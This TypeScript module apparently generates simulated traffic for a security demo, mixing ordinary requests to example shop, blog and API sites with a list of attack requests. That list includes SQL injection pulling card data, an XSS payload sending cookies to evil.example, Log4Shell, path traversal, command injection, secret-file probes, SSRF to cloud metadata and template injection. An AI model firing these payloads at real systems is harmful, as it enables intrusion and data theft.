/** The requests of the demo's visitors and attackers. */
import type { Random } from './random.ts';

export interface DemoRequest {
  readonly method?: 'GET' | 'POST';
  readonly path: string;
  readonly agent?: string;
  /** The body of a form. */
  readonly body?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

export const sites = ['shop.example', 'blog.example', 'api.example'] as const;
export type DemoSite = (typeof sites)[number];

const browsers = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Safari/605.1.15',
  'Mozilla/5.0 (Linux; Android 16; Pixel 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
];
const scanners = ['sqlmap/1.9', 'curl/8.16.0', 'python-requests/2.33', 'Mozilla/5.0 zgrab/0.x', browsers[3]!];

const visits: Readonly<Record<DemoSite, readonly DemoRequest[]>> = {
  'shop.example': [
    { path: '/' },
    { path: '/products' },
    { path: '/products/teapot' },
    { path: '/products/kettle?colour=blue' },
    { path: '/search?q=tea+pot' },
    { path: '/search?q=cups+%26+saucers' },
    { path: '/cart' },
    { method: 'POST', path: '/cart', body: 'item=teapot&count=1' },
    { method: 'POST', path: '/login', body: 'user=anna&password=correct+horse' },
    { path: '/assets/shop.css' },
  ],
  'blog.example': [
    { path: '/' },
    { path: '/2026/how-we-brew' },
    { path: '/2026/a-kettle-of-fish' },
    { path: '/feed.xml', agent: 'Feedreader/3.1' },
  ],
  'api.example': [
    { path: '/v1/orders?limit=20', agent: 'shop-app/4.2' },
    { path: '/v1/stock/teapot', agent: 'shop-app/4.2' },
    { method: 'POST', path: '/v1/orders', body: 'item=teapot', agent: 'shop-app/4.2' },
  ],
};

const attacks: Readonly<Record<DemoSite, readonly DemoRequest[]>> = {
  'shop.example': [
    { path: '/products?id=1%27%20UNION%20SELECT%20card,cvc%20FROM%20payments--%20' },
    { path: '/search?q=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E' },
    { path: '/download?file=../../../../etc/passwd' },
    { method: 'POST', path: '/login', body: 'user=admin%27+or+1%3D1--+&password=x' },
    { path: '/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D' },
    { path: '/admin/users' },
    { path: '/products?sort=name;cat%20/etc/shadow' },
    { path: '/.env' },
    { path: '/.git/config' },
    { path: '/checkout?coupon=%27%20AND%20SLEEP(5)--%20' },
  ],
  'blog.example': [
    { path: '/wp-login.php' },
    { path: '/?author=1%20and%20(select%20*%20from(select(sleep(5)))a)' },
    { method: 'POST', path: '/comments', body: 'text=%3Cimg+src%3Dx+onerror%3Dalert(document.domain)%3E' },
    { path: '/xmlrpc.php' },
  ],
  'api.example': [
    { path: '/v1/fetch?url=http://169.254.169.254/latest/meta-data/iam/' },
    {
      path: '/v1/orders?id=0%20or%201=1%20union%20select%20null,table_name%20from%20information_schema.tables',
    },
    { path: '/v1/report?template=%7B%7B7*7%7D%7D%7B%7Bconfig.items()%7D%7D' },
  ],
};

export function drawVisit(random: Random, site: DemoSite): DemoRequest {
  return { agent: random.pick(browsers), ...random.pick(visits[site]) };
}

export function drawAttack(random: Random, site: DemoSite): DemoRequest {
  return { agent: random.pick(scanners), ...random.pick(attacks[site]) };
}

/** Each attack once. */
export function listAttacks(site: DemoSite): readonly DemoRequest[] {
  return attacks[site].map((each) => ({ agent: scanners[0]!, ...each }));
}

/** The shop has most visits. */
export function drawSite(random: Random): DemoSite {
  return random.pick([
    'shop.example',
    'shop.example',
    'shop.example',
    'blog.example',
    'api.example',
  ] as const);
}

/** A user agent in which scanners identify themselves. */
export function drawAgent(random: Random): string {
  return random.pick(scanners);
}
